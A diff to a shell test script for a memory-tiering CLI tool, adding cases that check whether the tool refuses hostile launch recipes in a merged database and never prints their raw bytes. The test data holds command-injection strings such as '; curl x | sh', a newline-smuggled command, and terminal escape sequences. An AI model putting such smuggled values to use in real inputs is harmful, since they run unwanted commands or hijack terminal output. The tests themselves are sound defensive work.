@@ -66,6 +66,78 @@ expect_bad_input 2 "cannot read auto report '$WORK/link.json': it is a symbolic 
 	"$TT" --sysfs-root "$qfx" capture -o "$WORK/cap-link" --model-from "$WORK/link.json"
 is "... with the way on, and no folder" \
 	"$(grep -c "readlink -f '$WORK/link.json'" "$WORK/err"):$([ -e "$WORK/cap-link" ] && echo left || echo none)" "1:none"
+# A per_source run's launch recipe from a store made elsewhere (issue 45):
+# printed as commands to paste by show, export --run and apply --run, and
+# merge checked only that it was JSON. Each hostile form, in one field of
+# a real run's recipe: commands after the weights, escape sequences (ESC
+# and the C1 CSI), a newline with a command line after it.
+export TIERTUNE_DB=$WORK/recipe.db
+gx=$(copy_fixture 2s-genoa-cxl)
+check "a per_source run to plant in" "$TT" --sysfs-root "$gx" --db "$WORK/src.db" auto --source-node 0 \
+	--model "$M/2s-genoa-cxl.json" --seed 1
+forms=(
+	'weights|0:32,1:7 -- PROGRAM; curl x | sh #'
+	$'cpus|0-47\e[2J\e]0;owned\a\e[8m'
+	$'nodes|0-1\n  curl x | sh'
+	$'others|1,3\u009b31m'
+)
+# recipe DB FIELD [TEXT]: the run's recipe field (others: the first
+# other's mems), set to TEXT when given; the stored JSON text when FIELD
+# is -, from show --json's recipe_text on stdin when DB is -.
+recipe() {
+	python3 -c 'import json, sqlite3, sys
+db, field = sys.argv[1], sys.argv[2]
+if db == "-":
+    r = json.loads(json.load(sys.stdin)["recommendations"][0]["recipe_text"])
+else:
+    c = sqlite3.connect(db)
+    r = json.loads(c.execute("SELECT recipe FROM recommendations").fetchone()[0])
+if len(sys.argv) > 3:
+    if field == "others": r["others"][0]["mems"] = sys.argv[3]
+    else: r[field] = sys.argv[3]
+    c.execute("UPDATE recommendations SET recipe = ?", (json.dumps(r),))
+    c.commit()
+else:
+    sys.stdout.write(r["others"][0]["mems"] if field == "others" else r[field])' "$@"
+}
+# Raw control bytes (C0 but newline, DEL, the C1 CSI) on either stream,
+# and lines that start a command of the planted text: how many.
+raw() { cat "$WORK/out" "$WORK/err" | LC_ALL=C grep -c $'[\x01-\x09\x0b-\x1f\x7f]\|\xc2\x9b\|^  curl'; }
+check "the store to merge into" "$TT" db migrate
+for f in "${forms[@]}"; do
+	field=${f%%|*}
+	cp "$WORK/src.db" "$WORK/hostile.db"
+	recipe "$WORK/hostile.db" "$field" "${f#*|}"
+	want="a per-socket recipe's $field"
+	[ "$field" = others ] && want="a per-socket recipe's other mems"
+	expect_bad_input 2 "merging '$WORK/hostile.db': its run 1's recommendation is refused: $want" - \
+		"$TT" db merge "$WORK/hostile.db"
+	is "merge of the $field form: no raw byte said" "$(raw)" 0
+done
+# A store that holds one anyway (merged by a tiertune before this check,
+# or damaged): show and export --run refuse it, apply --run says so, none
+# prints it raw; show --json has it as recipe_text.
+check "merging the run as it was" "$TT" db merge "$WORK/src.db"
+rid=$(sql "$TIERTUNE_DB" "SELECT max(id) FROM runs")
+for f in "${forms[@]}"; do
+	field=${f%%|*}
+	recipe "$TIERTUNE_DB" "$field" "${f#*|}"
+	expect_bad_input 2 "run $rid's per-socket recipe is refused, not printed: a per-socket recipe's" - \
+		"$TT" show "$rid"
+	is "show, $field form: no raw byte, the way to the JSON named" \
+		"$(raw):$(grep -c "'tiertune show $rid --json' shows the run" "$WORK/err")" "0:1"
+	run "$TT" --sysfs-root "$gx" export --run "$rid" --format shell
+	is "export --run, $field form: exit 2, refused, nothing on stdout, no raw byte" \
+		"$rc:$(grep -c "run $rid's per-socket recipe is refused" "$WORK/err"):$(wc -c <"$WORK/out"):$(raw)" "2:1:0:0"
+	run "$TT" --sysfs-root "$gx" apply --run "$rid"
+	is "apply --run, $field form: nothing written (exit 0), the refusal said, no raw byte" \
+		"$rc:$(grep -c "run $rid's per-socket recipe is refused" "$WORK/err"):$(raw)" "0:1:0"
+	run "$TT" show "$rid" --json
+	is "show --json, $field form: recipe null, the stored text as recipe_text" \
+		"$rc:$(json "[r['recipe'] for r in j['recommendations']]" <"$WORK/out"):$([ "$(recipe - "$field" <"$WORK/out")" = "${f#*|}" ] && echo same)" \
+		"0:[None]:same"
+done
+
 # Small words (issue 45). An unparsable TIERTUNE_LOCK_WAIT was silently
 # the default 30 s (the boot unit's 1800 mistyped would give up early):
 # refused, naming it, nothing written.
